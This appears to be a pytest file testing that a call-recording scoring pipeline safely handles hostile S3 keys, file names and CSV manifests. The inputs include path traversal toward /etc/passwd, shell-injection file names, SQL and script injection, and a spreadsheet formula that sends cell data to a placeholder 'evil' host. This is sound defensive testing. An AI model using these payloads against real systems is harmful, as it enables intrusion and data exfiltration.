"""Keys, names and manifests that mean harm: nothing is written outside OUT, each call is scored or fails with its
reason, and no two share an id."""

import csv
import io
import json
import os
import sys
from pathlib import Path

import pytest

from pipeline.archive.ledger import open_ledger
from pipeline.archive.scores import open_scores
from pipeline.batch.run import score_bucket
from pipeline.errors import ManifestError
from pipeline.fakes import fake_bytes
from pipeline.listen.call_rows import folder_key, is_safe_call_id
from tests.batch.conftest import FAKE, here

KEYS = [
    "../outside.wav",
    "../../../../../../tmp/ridealong-outside.wav",
    "/tmp/ridealong-absolute.wav",
    "//double//slashes.wav",
    "a/../../b.wav",
    "a/./b.wav",
    "..wav",
    "...wav",
    "..\\..\\windows.wav",
    "C:\\Windows\\System32\\x.wav",
    "file:///etc/passwd.wav",
    "%2e%2e%2fquoted.wav",
    "%00nul.wav",
    "control\x01\x1b[31m.wav",
    "line\nbreak\r.wav",
    "tab\there.wav",
    "😀 emoji 👩‍👩‍👧.wav",
    "\u202ereversed.wav",
    "combining e\u0301.wav",
    "combining é.wav",
    "Case.wav",
    "case.wav",
    "CASE.WAV",
    "straße.wav",
    "STRASSE.wav",
    "=cmd|' /C calc'!A0.wav",
    "+1.wav",
    "@sum(1).wav",
    "<script>alert(1)</script>.wav",
    '"><img src=x onerror=alert(1)>.wav',
    "trailing dot..wav",
    "trailing space .wav",
    " leading.wav",
    "con.wav",
    "AUX.wav",
    "nul.txt.wav",
    "com1.wav",
    ".making-call.wav",
    ".hidden.wav",
    "-rf.wav",
    "$(touch x).wav",
    "`touch x`.wav",
    "'; DROP TABLE recordings; --.wav",
    "{{7*7}}.wav",
    "%s%s%n.wav",
    "calls/scorecard.json.wav",
    "x" * 1000 + ".wav",
    "deep/" * 180 + "x.wav",
    "日本語の通話.wav",
]
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil/?"&A1)'


def snapshot(root, without):
    """Every file and folder below, but for one folder: what a batch must leave as it is."""
    found = {}
    for folder, folders, names in os.walk(root):
        folders[:] = [name for name in folders if Path(folder, name) != without]
        for name in names:
            found[str(Path(folder, name))] = Path(folder, name).read_bytes()
    return found


def rows_of(out):
    with open_ledger(out / "ledger.db") as ledger:
        return list(ledger.all())


def checked(out, rows, summary):
    """Each is scored or failed in words; ids are safe and unique; OUT holds what it should and nothing else."""
    assert summary.stopped is None and summary.left == 0
    assert {one.state for one in rows} <= {"done", "copy", "failed"}
    assert all(one.error for one in rows if one.state == "failed")
    assert len({folder_key(one.call_id) for one in rows}) == len(rows)
    assert all(is_safe_call_id(one.call_id) for one in rows)
    assert {path.name.partition("-")[0] for path in out.iterdir()} <= {"calls", "ledger.db"}
    scored = {one.call_id for one in rows if one.state == "done"}
    assert {path.name for path in (out / "calls").iterdir()} == scored == set(open_scores(out).call_ids())
    for path in (out / "calls").rglob("*"):
        assert path.is_dir() or path.parent.parent == out / "calls"
    for path in (out / "calls").glob("*/scorecard.html"):
        page = path.read_text(encoding="utf-8")
        assert SCRIPT not in page and "<img src=x" not in page


def test_batch_of_hostile_keys_in_a_bucket(s3, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    source = s3.bucket("hostile")
    keys = [key for key in KEYS if "\n" not in key]  # moto's own routes end at a line break
    for number, key in enumerate(keys):
        s3.client().put_object(Bucket="hostile", Key=key, Body=fake_bytes(seed=number))
    out, before = tmp_path / "a" / "b" / "out", snapshot(tmp_path, None)
    summary = score_bucket(source, out=out, settings=FAKE, runner=here)
    rows = rows_of(out)
    hidden = {key for key in keys if key.rpartition("/")[2].startswith(".")}
    assert set(keys) - {one.key for one in rows} == hidden and len(rows) == len(keys) - len(hidden)
    checked(out, rows, summary)
    assert summary.done == len(rows) and dict(summary.plan.skipped) == {"hidden": len(hidden)}
    assert snapshot(tmp_path, out) == before
    assert not list(Path("/tmp").glob("ridealong-outside*")) and not list(Path("/tmp").glob("ridealong-absolute*"))
    assert score_bucket(source, out=out, settings=FAKE, runner=here).plan.to_do == 0


@pytest.mark.skipif(sys.platform != "linux", reason="other systems refuse such names")
def test_batch_of_hostile_file_names(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    source, secret = tmp_path / "source", tmp_path / "secret.wav"
    source.mkdir()
    secret.write_bytes(fake_bytes(seed=999))
    names = [os.fsencode(key) for key in KEYS if "/" not in key and len(key.encode()) < 256]
    names += [b"\xff\xfe not UTF-8.wav", b"y" * 251 + b".wav"]
    for number, name in enumerate(names):
        with open(os.path.join(os.fsencode(source), name), "wb") as file:  # noqa: PTH118, PTH123 - names as bytes
            file.write(fake_bytes(seed=number))
    os.mkfifo(source / "pipe.wav")
    (source / "folder.wav").mkdir()
    (source / "nowhere.wav").symlink_to(source / "is not there.wav")
    (source / "loop.wav").symlink_to(source / "loop.wav")
    out, before = tmp_path / "out", {path: path.read_bytes() for path in (secret,)}
    summary = score_bucket(source, out=out, settings=FAKE, runner=here)
    rows = rows_of(out)
    checked(out, rows, summary)
    hidden = sum(name.startswith(b".") for name in names)
    assert summary.done >= len(names) - hidden
    assert {path: path.read_bytes() for path in (secret,)} == before
    assert {path.name for path in tmp_path.iterdir()} == {"source", "out", "secret.wav"}


def manifest_of(rows, **more):
    text = io.StringIO()
    csv.writer(text, **more).writerows(rows)
    return text.getvalue()


def test_batch_of_a_hostile_manifest(tmp_path):
    source, out = tmp_path / "source", tmp_path / "out"
    source.mkdir()
    for number in range(4):
        (source / f"{number}.wav").write_bytes(fake_bytes(seed=number))
    cells = [SCRIPT, FORMULA, "\x00\x1b[31m nul", "{{ 7*7 }} ${x} %s"]
    lines = [[f"{number}.wav", cell, cell, cell] for number, cell in enumerate(cells)]
    path = source / "calls.csv"
    path.write_text(manifest_of([["recording", "rep", "customer", FORMULA], *lines]), encoding="utf-8")
    summary = score_bucket(source, out=out, manifest=path, settings=FAKE, runner=here)
    checked(out, rows_of(out), summary)
    assert summary.done == 4
    for number, cell in enumerate(cells):
        card = json.loads((out / "calls" / str(number) / "scorecard.json").read_text(encoding="utf-8"))
        assert card["details"][FORMULA] == cell.replace("\x00\x1b", "")
    assert "&lt;script&gt;" in (out / "calls" / "0" / "scorecard.html").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("rep,customers\nA,B\n", "the column 'recording' is missing"),
        ("recording,recording\n0.wav,0.wav\n", "the column 'recording' comes more than once"),
        ("recording,call_id\n0.wav,../../x\n", r"column 'call_id': got '\.\./\.\./x'"),
        ("recording,rep\n0.wav\n", "line 2: 1 field. Allowed: 2"),
        ("recording\n../../etc/passwd\n", "leaves the folder"),
        ("recording\n/etc/passwd\n", "'/etc/passwd' is no such path"),
        ("recording,notes\n0.wav," + "x" * 10_000_000 + "\n", "larger than field limit"),
        ("", "the file is empty"),
        ("\x00" * 1000, "the column 'recording' is missing"),
    ],
    ids=["no recording", "column twice", "id", "too few cells", "path", "absolute", "10 MB", "empty", "zeros"],
)
def test_batch_refuses_a_manifest_with_faults_before_anything_is_done(tmp_path, text, said):
    source, out = tmp_path / "source", tmp_path / "out"
    source.mkdir()
    (source / "0.wav").write_bytes(fake_bytes(seed=1))
    (source / "calls.csv").write_text(text, encoding="utf-8")
    with pytest.raises(ManifestError, match=said) as raised:
        score_bucket(source, out=out, manifest=source / "calls.csv", settings=FAKE, runner=here)
    assert len(str(raised.value)) < 5_000 and not (out / "calls").exists()
